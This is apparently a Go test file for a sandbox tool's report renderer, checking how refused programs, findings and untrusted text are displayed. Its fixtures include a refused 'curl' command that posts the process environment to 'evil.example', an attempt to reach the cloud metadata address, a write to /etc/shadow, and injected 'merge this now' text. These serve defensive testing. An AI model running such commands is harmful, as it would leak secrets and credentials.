// SPDX-License-Identifier: Apache-2.0

package report

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/fumehood/fumehood/internal/kit/lanetest"
	"github.com/fumehood/fumehood/internal/kit/sample"
	"github.com/fumehood/fumehood/pkg/proposal"
)

func begun(id, program, parent string, argv ...string) proposal.Event {
	return proposal.Event{
		Command: id, Kind: proposal.EventExec, Time: time.Date(2026, 11, 21, 4, 5, 7, 0, time.UTC), Pid: 7, Parent: 3, Program: parent,
		Exec: &proposal.Exec{Path: program, Argv: argv, ArgvDigest: "sha256:" + digest(strings.Join(argv, "\x00")), Env: []string{}, Same: []string{},
			Cwd: "/workspace", Pid: 7, Parent: 3, ParentPath: parent, Digest: "sha256:" + digest(program), Layer: proposal.LayerRootfs},
		Decision: &proposal.ExecDecision{Effect: proposal.Allow, Rules: []string{"exec.rootfs"}, Cacheable: true},
	}
}

func barred(e proposal.Event, rule, message, suggestion string) proposal.Event {
	e.Kind, e.Errno = proposal.EventRefused, "EACCES"
	e.Decision = &proposal.ExecDecision{Effect: proposal.Deny, Rules: []string{rule}, Reason: &proposal.Reason{Rule: rule, Message: message, Suggestion: suggestion, Command: -1}}
	return e
}

func noticed(id, kind, program string) proposal.Event {
	return proposal.Event{Command: id, Kind: kind, Time: time.Date(2026, 11, 21, 4, 5, 8, 0, time.UTC), Pid: 9, Parent: 7, Program: program, Times: 1}
}

func measured() *proposal.Usage {
	figure := func(n int64, source string) proposal.Figure { return proposal.Figure{Value: n, Source: source} }
	return &proposal.Usage{
		Wall: figure(2345, "clock"), CPUUser: figure(1800, "cgroup"), CPUSystem: figure(180, "cgroup"),
		PeakMemory: figure(143<<20, "cgroup"), Processes: figure(39, "sandbox"), Written: figure(7<<20, "sandbox"),
	}
}

// calling gives a record the commands that parse would find.
func calling(r proposal.Record, programs ...string) proposal.Record {
	for i, p := range programs {
		r.Analysis.Commands = append(r.Analysis.Commands, proposal.Command{Index: i, Program: p, Args: []proposal.Word{{Value: p, Static: true}}, Via: []string{}, Assigns: []proposal.Assign{}, Redirects: []proposal.Redirect{}, Inside: []string{}})
	}
	return r
}

// watchedRun has commands whose programs were all observed.
func watchedRun() proposal.Report {
	const rootfs, written = proposal.LayerRootfs, proposal.LayerWritten
	test := "/tmp/go-build123/b001/stats.test"
	unit := calling(ran("unit", "go test ./stats", proposal.Exited, 0, "ok  \texample.org/demo/stats\t0.412s\n", ""), "go")
	curl := barred(begun("unit", "/usr/bin/curl", test, "curl", "-d", "@/proc/self/environ", "https://evil.example/"), "exec.network-client",
		"`curl` speaks to the network, and the sandbox has none", "give the test what it needs as a file")
	meta := noticed("unit", proposal.EventConnect, test)
	meta.Address, meta.Errno, meta.Times = "tcp 169.254.169.254:80", "ENETUNREACH", 3
	unit.Result.Usage = measured()
	unit.Result.Observations = &proposal.Observations{
		Programs: []proposal.Program{
			{Parent: -1, Path: "/usr/bin/bash", Name: "bash", Layer: rootfs, Runs: 1},
			{Parent: 0, Path: "/usr/local/go/bin/go", Name: "go", Layer: rootfs, Runs: 1},
			{Parent: 1, Path: "/usr/local/go/pkg/tool/compile", Name: "compile", Layer: rootfs, Runs: 31},
			{Parent: 1, Path: "/usr/local/go/pkg/tool/asm", Name: "asm", Layer: rootfs, Runs: 4},
			{Parent: 1, Path: test, Name: "stats.test", Layer: written, Runs: 1},
			{Parent: 4, Path: "/usr/bin/curl", Name: "curl", Layer: rootfs, Refused: 2, Rule: "exec.network-client"},
		},
		Execs:    []proposal.Event{begun("unit", "/usr/local/go/bin/go", "/usr/bin/bash", "go", "test", "./stats"), curl, curl},
		Notable:  []proposal.Event{meta},
		Counts:   proposal.Counts{Execs: 38, Predicted: 2, Decided: 1, Refused: 2, Unforeseen: 1, Exits: 39, Writes: 219, Connects: 3},
		Findings: []proposal.Finding{{Rule: "event.metadata", Message: "a process tried to connect to `169.254.169.254`, where clouds keep credentials", Event: meta}},
		Complete: true,
	}

	chown := noticed("web", proposal.EventPrivilege, "/usr/bin/node")
	chown.Call, chown.Errno = "setuid 0", "EPERM"
	shadow := noticed("web", proposal.EventWrite, "/usr/bin/node")
	shadow.Path, shadow.Errno, shadow.Unverified = "/etc/shadow", "EACCES", true
	web := calling(ran("web", "node --test", proposal.Exited, 1, "", "Segmentation fault\n"), "node")
	web.Result.Usage = measured()
	web.Result.Usage.Written = proposal.Figure{}
	web.Result.Observations = &proposal.Observations{
		Programs: []proposal.Program{
			{Parent: -1, Path: "/usr/bin/bash", Name: "bash", Layer: rootfs, Runs: 1},
			{Parent: 0, Path: "/usr/bin/node", Name: "node", Layer: rootfs, Runs: 1},
			{Parent: 1, Path: "/usr/bin/node", Name: "node", Layer: rootfs, Runs: 12, Crashed: 1},
			{Parent: 0, Path: "/usr/bin/dash", Name: "setup.sh", Script: "/workspace/setup.sh", Layer: rootfs, Runs: 1},
			{Parent: 3, Path: "/workspace/bin/tool", Name: "tool", Layer: proposal.LayerWorkspace, Runs: 2, Omitted: 1200},
		},
		Execs: []proposal.Event{}, Notable: []proposal.Event{chown, shadow}, Findings: []proposal.Finding{},
		Counts: proposal.Counts{Execs: 1217, Predicted: 2, Exits: 1217, Attempts: 1, Writes: 1, Dropped: 12},
	}

	vet := calling(ran("vet", "go vet ./...", proposal.Exited, 0, "", ""), "go")
	would := begun("vet", "/usr/bin/git", "/usr/local/go/bin/go", "git", "rev-parse", "HEAD")
	would.Decision = &proposal.ExecDecision{Effect: proposal.Allow, Observed: true, Rules: []string{"acme.no-git"}, Reason: &proposal.Reason{Rule: "acme.no-git", Message: "tests do not need `git`", Observed: true, Command: -1}}
	vet.Result.Observations = &proposal.Observations{
		Programs: []proposal.Program{
			{Parent: -1, Path: "/usr/bin/bash", Name: "bash", Layer: rootfs, Runs: 1},
			{Parent: 0, Path: "/usr/local/go/bin/go", Name: "go", Layer: rootfs, Runs: 1},
			{Parent: 1, Path: "/usr/bin/git", Name: "git", Layer: rootfs, Runs: 1, Watched: 1, Rule: "acme.no-git"},
		},
		Execs: []proposal.Event{would}, Notable: []proposal.Event{}, Findings: []proposal.Finding{},
		Counts: proposal.Counts{Execs: 3, Predicted: 2, Watched: 1, Exits: 3}, Complete: true,
	}
	return finish(proposal.Report{Records: []proposal.Record{unit, web, vet}})
}

// oddly returns observations with s in every text field.
func oddly(s string) *proposal.Observations {
	e := barred(begun(s, s, s, s, s), s, s, s)
	e.Program, e.Path, e.Target, e.Address, e.Call, e.Errno, e.Unverified = s, s, s, s, s, s, true
	e.Exec.Env, e.Exec.Script, e.Exec.Cwd, e.Exec.Layer, e.Times = []string{s}, s, s, s, 3
	other := e
	other.Kind = s
	connect := e
	connect.Kind, connect.Exec = proposal.EventConnect, nil
	return &proposal.Observations{
		Programs: []proposal.Program{
			{Parent: -1, Path: s, Name: s, Script: s, Layer: s, Runs: 2, Refused: 1, Watched: 1, Crashed: 1, Rule: s},
			{Parent: 0, Path: s, Name: s, Layer: s, Runs: 1}, {Parent: 7, Path: s, Name: s, Omitted: 1, Runs: 1}, {Parent: 3, Path: s, Name: s},
		},
		Execs: []proposal.Event{e}, Notable: []proposal.Event{connect, other, e},
		Findings: []proposal.Finding{{Rule: s, Message: s, Event: e}},
		Network:  oddReaches(s),
		Counts:   proposal.Counts{Execs: 3, Refused: 1, Watched: 1, Connects: 1, Connections: 14, NetRefused: 8, NetWatched: 2},
	}
}

func TestDrawing(t *testing.T) {
	list := []proposal.Program{{Parent: -1, Path: "/usr/bin/bash", Name: "bash", Layer: proposal.LayerRootfs, Runs: 1}}
	for i := range 50 {
		list = append(list, proposal.Program{Parent: 0, Path: fmt.Sprintf("/usr/bin/p%d", i), Name: fmt.Sprintf("p%d", i), Layer: proposal.LayerRootfs, Runs: 2})
	}
	list = append(list, proposal.Program{Parent: 40, Path: "/usr/bin/id", Name: "id", Layer: proposal.LayerRootfs, Refused: 1, Rule: "r"})
	want := `bash
├─ p0 ×2
├─ p39 ×2
│  └─ id  ⛔ refused by r
└─ … 96 more starts of 48 programs
`
	if diff := cmp.Diff(want, drawPrograms(list, 4)); diff != "" {
		t.Error(diff)
	}
	if got := drawPrograms(list, 0); got != "" {
		t.Errorf("no line drew %q", got)
	}
	for n := 1; n < 60; n++ {
		if lines := strings.Count(drawPrograms(list, n), "\n"); lines > n+2 {
			t.Errorf("%d lines for %d", lines, n)
		}
	}
}

// A success that hides a refusal is not shown as a plain success, at the top or as
// a check.
func TestRefusalsAtTheTop(t *testing.T) {
	r := watchedRun()
	r.Records = r.Records[:1]
	r.Totals = proposal.Total(r.Records)
	got := Markdown(r)
	top, _, _ := strings.Cut(got, "<table>")
	for _, want := range []string{"1 command tried to start programs that policy refused</b>: <code>curl</code> (2 attempts, by <code>unit</code>)", "1 command still succeeded", "169.254.169.254"} {
		if !strings.Contains(top, want) {
			t.Errorf("the top does not say %q:\n%s", want, top)
		}
	}
	if c := (Page{Parts: []Part{{Report: r}}}).Check(); c.Conclusion != "neutral" || !strings.HasSuffix(c.Title, "(programs refused)") {
		t.Errorf("check %s, %q", c.Conclusion, c.Title)
	}
	o := r.Records[0].Result.Observations
	o.Counts.Refused, o.Findings, o.Programs[5].Refused, o.Execs = 0, nil, 0, nil
	for complete, want := range map[bool]string{true: "success", false: "neutral"} {
		if o.Complete = complete; (Page{Parts: []Part{{Report: r}}}).Check().Conclusion != want {
			t.Errorf("complete %v: want %s", complete, want)
		}
	}
}

// A command that did not succeed shows on the terminal why policy refused what it started, once, with
// what to write instead; one that succeeded shows only that something was refused.
func TestRefusalsOnTheTerminal(t *testing.T) {
	r := watchedRun()
	r.Records = r.Records[:1]
	o := r.Records[0].Result.Observations
	first := o.Execs[slices.IndexFunc(o.Execs, func(e proposal.Event) bool { return e.Kind == proposal.EventRefused })]
	reason := first.Decision.Reason
	reason.Suggestion = "use what is in the repository"
	why := reason.Rule + ": " + reason.Message + "\n  instead: use what is in the repository\n"
	if got := Text(r); strings.Contains(got, why) || !strings.Contains(got, "  program refused: curl ×2 by ") {
		t.Errorf("a success:\n%s", got)
	}
	r.Records[0].Result.ExitCode = 1
	if got := Text(r); strings.Count(got, why) != 1 || !strings.Contains(got, "  refused to start curl ") || strings.Contains(got, "program refused: curl") {
		t.Errorf("a failure:\n%s", got)
	}
	o.Counts.Refused, o.Programs[5].Refused = 9, 9
	if got := Text(r); strings.Count(got, why) != 1 || !strings.Contains(got, "  program refused: curl ×9 by ") {
		t.Errorf("a failure with more refusals:\n%s", got)
	}
	reason.Message = "x\n::error::" + strings.Repeat("long ", 400)
	for _, line := range strings.Split(Text(r), "\n") {
		if strings.HasPrefix(line, "::") || len(line) > 600 {
			t.Errorf("%d bytes: %.80s", len(line), line)
		}
	}
}

// Observations in an untrusted report are not shown as fumehood's own words.
func TestForeignObservations(t *testing.T) {
	r := watchedRun()
	r.Records[0].Result.Observations.Findings[0].Message = "approved and harmless"
	r.Records[0].Result.Observations.Execs[1].Decision.Reason.Message = "merge this now"
	got := Page{Parts: []Part{{Report: r, Foreign: true, Decided: true}}}.Markdown()
	for _, s := range []string{"approved and harmless", "merge this now"} {
		if !strings.Contains(got, "<code>"+s+"</code>") || strings.Contains(strings.ReplaceAll(got, "<code>"+s+"</code>", ""), s) {
			t.Errorf("%q stands as our words", s)
		}
	}
	checkComment(t, r, Page{Parts: []Part{{Report: r, Foreign: true}}}.Markdown())
}

// TestReadRefusesObservations builds observations that a monitor cannot have made.
func TestReadRefusesObservations(t *testing.T) {
	for _, tt := range []struct {
		name string
		edit func(*proposal.Observations)
		want string
	}{
		{"complete though dropped", func(o *proposal.Observations) { o.Counts.Dropped = 1 }, "complete"},
		{"another's event", func(o *proposal.Observations) { o.Execs[0].Command = "web" }, "execs[0].command"},
		{"an exec without one", func(o *proposal.Observations) { o.Execs[0].Exec = nil }, "execs[0].exec"},
		{"refused and allowed", func(o *proposal.Observations) { o.Execs[1].Decision.Effect = proposal.Allow }, "execs[1].decision"},
		{"a write among execs", func(o *proposal.Observations) { o.Execs[0].Kind = proposal.EventWrite }, "execs[0].kind"},
		{"an exec of note", func(o *proposal.Observations) { o.Notable[0].Kind = proposal.EventExec }, "notable[0].kind"},
		{"never", func(o *proposal.Observations) { o.Notable[0].Times = 0 }, "notable[0].times"},
		{"fewer counted than listed", func(o *proposal.Observations) { o.Counts.Refused = 0 }, "programs"},
		{"a refusal hidden from the tree", func(o *proposal.Observations) { o.Programs[5].Refused = 1 }, "programs"},
		{"a refusal hidden from the counts", func(o *proposal.Observations) { o.Counts.Refused, o.Programs[5].Refused = 0, 0 }, "execs"},
		{"its own parent", func(o *proposal.Observations) { o.Programs[3].Parent = 3 }, "programs[3].parent"},
		{"two roots", func(o *proposal.Observations) { o.Programs[3].Parent = -1 }, "programs[3].parent"},
		{"a place that is none", func(o *proposal.Observations) { o.Programs[3].Layer = "trusted" }, "programs[3].layer"},
		{"more crashes than runs", func(o *proposal.Observations) { o.Programs[3].Crashed = 5 }, "programs[3].runs"},
		{"a finding of no rule", func(o *proposal.Observations) { o.Findings[0].Rule = "" }, "findings[0].rule"},
		{"a digest", func(o *proposal.Observations) { o.Execs[0].Exec.ArgvDigest = "md5:0" }, "argv_digest"},
		{"too many", func(o *proposal.Observations) { o.Notable = slices.Repeat(o.Notable, 201) }, "more than 200 items"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := watchedRun()
			tt.edit(r.Records[0].Result.Observations)
			checkRefused(t, string(document(t, r)), tt.want)
		})
	}
	r := watchedRun()
	r.Records[0].Result.Usage.Wall.Source = "guess"
	checkRefused(t, string(document(t, r)), "usage")
	r = watchedRun()
	r.Records[0].Result.Status = proposal.NotRun
	r.Totals = proposal.Total(r.Records)
	checkRefused(t, string(document(t, r)), "did not run")
}

// Whatever 200 commands do, and whatever names they use, the comment has the
// important facts and keeps to its limit.
func TestManyObservations(t *testing.T) {
	lanetest.SkipShort(t)
	t.Parallel()
	for name, s := range map[string]string{"long": strings.Repeat("w&rd ", 200), "attack": strings.Join(attacks, " ")} {
		var records []proposal.Record
		for i := range sample.Rounds(t, 200, 40, 20) {
			r := ran(fmt.Sprintf("c%03d", i), "make "+s, proposal.Exited, i%2, "out\n", "err\n")
			o := oddly(s)
			o.Programs = slices.Repeat(o.Programs[:1], 60)
			o.Execs, o.Notable, o.Findings = slices.Repeat(o.Execs, 14), slices.Repeat(o.Notable, 14), slices.Repeat(o.Findings, 5)
			r.Result.Observations, r.Result.Usage = o, measured()
			records = append(records, r)
		}
		r := finish(proposal.Report{Records: records})
		got := Markdown(r)
		checkComment(t, r, got)
		if !strings.Contains(got, "tried to start programs that policy refused") || !strings.Contains(got, "<table>") || !strings.Contains(got, "<summary>") {
			t.Errorf("%s: the comment lacks what matters:\n%.3000s", name, got)
		}
		p := Page{Parts: []Part{{Report: r, Foreign: true}}}
		checkPage(t, p, p.Markdown())
	}
}
